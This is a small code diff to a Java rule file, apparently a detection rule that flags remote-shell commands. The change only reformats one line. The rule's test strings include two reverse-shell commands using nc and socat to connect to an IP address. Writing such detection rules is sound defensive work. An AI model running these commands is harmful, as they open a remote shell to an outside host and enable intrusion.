@@ -67,9 +67,7 @@ final class TransferRules {
                                     "code remote-shell **",
                                     "code ** remote-shell **")
                             .instead("nc -z localhost 22")
-                            .matches(
-                                    "nc -e /bin/sh 10.0.0.1 4444",
-                                    "socat tcp:10.0.0.1:1 exec:sh")
+                            .matches("nc -e /bin/sh 10.0.0.1 4444", "socat tcp:10.0.0.1:1 exec:sh")
                             .not("nc -z host 22"),
                     Rule.of(
                                     "transfer.open-door",
